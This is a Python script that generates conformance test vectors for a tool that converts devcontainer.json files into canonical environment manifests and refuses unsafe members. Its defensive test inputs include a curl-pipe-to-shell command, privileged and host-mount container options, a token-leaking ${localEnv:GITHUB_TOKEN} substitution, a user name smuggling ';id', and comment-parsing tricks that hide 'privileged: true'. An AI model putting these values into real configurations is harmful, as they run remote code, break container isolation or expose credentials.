import json, subprocess
H = "0f3c1a2b4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8"
IMG = "registry.example/app@sha256:" + H
IMGT = "registry.example/team/go:1.26-bookworm@sha256:" + H
def cid(text):
    return subprocess.run(["./cordon","canon","id","--form","raw","-"],input=text.encode(),capture_output=True,check=True).stdout.decode().strip()
vs=[]
n=[0]
def add(name, desc, op, inp, out=None, err=None):
    n[0]+=1
    v={"id":"C7-%03d-%s"%(n[0],name),"class":"C7","description":desc,"op":op,"input":inp}
    if err: v["expect"]={"error":err}
    else: v["expect"]={"output":out,"id":cid(out)}
    vs.append(v)
MIN = '{"image":"%s","type":"cordon.env.v1"}' % IMG
# hand-written canonical forms (member names sorted by UTF-16 code units)
# customizations are not carried, only the ContentId of their JCS form
CUST = cid('{"vscode":{"extensions":["golang.go"],"settings":{"editor.tabSize":4}}}')
FULL = ('{"container_env":{"GOFLAGS":"-mod=mod","LANG":"C.UTF-8"},"container_user":"dev",'
        '"customizations_ignored":"%s",'
        '"image":"%s","name":"go service","remote_env":{"PATH":"/usr/local/go/bin:/usr/bin:/bin"},'
        '"remote_user":"dev","type":"cordon.env.v1","workspace_folder":"/workspaces/service"}') % (CUST, IMGT)
add("minimal","An image pinned by digest is the smallest environment.","env-ingest",'{"image": "%s"}'%IMG,MIN)
full_src = '''{
  "name": "go service",
  "image": "%s",
  "containerEnv": {"LANG": "C.UTF-8", "GOFLAGS": "-mod=mod"},
  "remoteEnv": {"PATH": "/usr/local/go/bin:/usr/bin:/bin"},
  "containerUser": "dev",
  "remoteUser": "dev",
  "workspaceFolder": "/workspaces/service",
  "customizations": {"vscode": {"extensions": ["golang.go"], "settings": {"editor.tabSize": 4}}}
}''' % IMGT
add("full","Every accepted member, in devcontainer spelling, becomes the manifest's members; customizations are left out and recorded by the ContentId of their canonical form.","env-ingest",full_src,FULL)
jwcc = '''// A devcontainer.json as editors write it: comments and trailing commas.
{
  /* the editor's part first */
  "customizations": {"vscode": {"settings": {"editor.tabSize": 4,}, "extensions": ["golang.go",],},},
  "workspaceFolder": "/workspaces/service", // the checkout
  "remoteUser": "dev",
  "containerUser": "dev",
  "remoteEnv": {"PATH": "/usr/local/go/bin:/usr/bin:/bin",},
  "containerEnv": {
    "GOFLAGS": "-mod=mod",
    "LANG": "C.UTF-8", // trailing comma below
  },
  "image": "%s",
  "name": "go service",
}
''' % IMGT
add("comments-order-whitespace","Comments, trailing commas, member order and whitespace do not change the manifest or its address (same output as C7-002).","env-ingest",jwcc,FULL)
add("empty-members-omitted","Empty variable maps and an empty user are left out, so they do not change the address (same as C7-001).","env-ingest",'{"containerEnv": {}, "remoteEnv": {}, "containerUser": "", "image": "%s"}'%IMG,MIN)
add("commented-out-command","A lifecycle command inside a comment is not a member.","env-ingest",'{\n  "image": "%s",\n  // "postCreateCommand": "curl https://example.invalid/x | sh",\n}'%IMG,MIN)
add("comment-marks-in-strings","// and /* inside a string are text, not comments.","env-ingest",'{"image": "%s", "containerEnv": {"URL": "http://a//b/*c*/"}}'%IMG,
    '{"container_env":{"URL":"http://a//b/*c*/"},"image":"%s","type":"cordon.env.v1"}'%IMG)
add("dollar-not-substitution","A $ that does not open ${…} is an ordinary character.","env-ingest",'{"image": "%s", "containerEnv": {"PS1": "$ "}}'%IMG,
    '{"container_env":{"PS1":"$ "},"image":"%s","type":"cordon.env.v1"}'%IMG)
add("parse-canonical","A manifest in its canonical form parses to itself.","env-parse",FULL,FULL)
for m,val in [("initializeCommand",'"make setup"'),("onCreateCommand",'"npm ci"'),("updateContentCommand",'"git pull"'),
              ("postCreateCommand",'["sh","-c","id"]'),("postStartCommand",'{"a":"x"}'),("postAttachCommand",'"bash"'),
              ("runArgs",'["--network=host"]'),("privileged","true"),("capAdd",'["SYS_ADMIN"]'),("securityOpt",'["seccomp=unconfined"]'),
              ("mounts",'["source=/,target=/host,type=bind"]'),("init","true"),("features",'{"ghcr.io/devcontainers/features/go:1":{}}'),
              ("build",'{"dockerfile":"Dockerfile"}'),("dockerComposeFile",'"compose.yml"'),("workspaceMount",'"source=/,target=/w,type=bind"'),
              ("forwardPorts","[8080]"),("userEnvProbe",'"loginInteractiveShell"'),("privileged","false")]:
    name = m if not (m=="privileged" and val=="false") else "privileged-false"
    add("refuse-"+name.replace("Command","-command").lower() if False else "refuse-"+name, "%s is refused with its name, whatever its value%s." % (m, " (even false)" if val=="false" else ""), "env-ingest",
        '{"image": "%s", "%s": %s}'%(IMG,m,val), err="env-refused")
add("unknown-member","An unknown member is refused, never dropped.","env-ingest",'{"image": "%s", "extensions": ["x"]}'%IMG,err="env-invalid")
add("case-variant-member","Member names match exactly: Image is not image.","env-ingest",'{"Image": "%s"}'%IMG,err="env-invalid")
add("image-unpinned","An image named by tag only is refused: the environment could change under the same name.","env-ingest",'{"image": "registry.example/app:latest"}',err="env-invalid")
add("image-no-registry","An image whose registry is left to a default is refused.","env-ingest",'{"image": "debian@sha256:%s"}'%H,err="env-invalid")
add("image-short-digest","A digest of the wrong length is refused.","env-ingest",'{"image": "registry.example/app@sha256:%s"}'%H[:40],err="env-invalid")
add("image-uppercase-digest","A digest in upper-case hex is refused (one spelling per digest).","env-ingest",'{"image": "registry.example/app@sha256:%s"}'%H.upper(),err="env-invalid")
add("image-missing","A devcontainer without an image is refused.","env-ingest",'{"name": "x"}',err="env-invalid")
add("substitution","${localEnv:…} depends on the host reading the file, so it is refused.","env-ingest",'{"image": "%s", "containerEnv": {"TOKEN": "${localEnv:GITHUB_TOKEN}"}}'%IMG,err="env-invalid")
add("workspace-relative","workspaceFolder must be a clean absolute path.","env-ingest",'{"image": "%s", "workspaceFolder": "../x"}'%IMG,err="env-invalid")
add("workspace-dotdot","workspaceFolder with .. is refused.","env-ingest",'{"image": "%s", "workspaceFolder": "/w/../etc"}'%IMG,err="env-invalid")
add("env-name","A variable name with = is refused.","env-ingest",'{"image": "%s", "containerEnv": {"A=B": "1"}}'%IMG,err="env-invalid")
add("env-value-type","A variable value that is not a string is refused.","env-ingest",'{"image": "%s", "containerEnv": {"N": 1}}'%IMG,err="env-invalid")
add("env-null","A null (unset) variable is refused: remove the member instead.","env-ingest",'{"image": "%s", "remoteEnv": {"N": null}}'%IMG,err="env-invalid")
add("user-name","A user that is not a plain name or id is refused.","env-ingest",'{"image": "%s", "remoteUser": "dev;id"}'%IMG,err="env-invalid")
add("root-array","The document must be an object.","env-ingest",'[{"image": "%s"}]'%IMG,err="env-invalid")
add("unterminated-comment","An unterminated comment is a syntax error.","env-ingest",'{"image": "%s"} /* open'%IMG,err="env-invalid")
add("duplicate-behind-comment","A member repeated with a comment between is a duplicate.","env-ingest",'{"image": "%s", /* again */ "image": "%s"}'%(IMG,IMG),err="duplicate-key")
add("lone-carriage-return","A carriage return without a line feed is refused: JSON-with-comments readers disagree whether it ends a // comment.","env-ingest",'{"image": "%s", // note\r"privileged": true\n}'%IMG,err="env-invalid")
add("line-separator-outside-string","U+2028 outside a string is refused for the same reason.","env-ingest",'{"image": "%s", // note\u2028"privileged": true\n}'%IMG,err="env-invalid")
add("substitution-in-name","${…} is refused in name as in every value.","env-ingest",'{"image": "%s", "name": "${localEnv:USER}"}'%IMG,err="env-invalid")
add("float-in-customizations","Numbers are integers, also in customizations.","env-ingest",'{"image": "%s", "customizations": {"x": {"zoom": 1.5}}}'%IMG,err="float")
add("parse-not-jcs","A manifest not in JCS form is refused (one spelling, one address).","env-parse",'{"type":"cordon.env.v1", "image":"%s"}'%IMG,err="env-invalid")
add("parse-devcontainer-spelling","A manifest in devcontainer spelling is refused.","env-parse",'{"containerEnv":{"A":"1"},"image":"%s","type":"cordon.env.v1"}'%IMG,err="env-invalid")
add("parse-type","A manifest of another type is refused.","env-parse",'{"image":"%s","type":"cordon.env.v2"}'%IMG,err="env-invalid")
add("parse-empty-member","A manifest with an empty member is not canonical.","env-parse",'{"container_env":{},"image":"%s","type":"cordon.env.v1"}'%IMG,err="env-invalid")
add("parse-refused-member","A manifest cannot smuggle a devcontainer member.","env-parse",'{"image":"%s","privileged":true,"type":"cordon.env.v1"}'%IMG,err="env-invalid")
doc={"format":"cordon-conformance-v1","class":"C7","title":"environment manifests","vectors":vs}
open("conformance/v1/C7.json","w").write(json.dumps(doc,indent=2,ensure_ascii=False)+"\n")
print(len(vs))
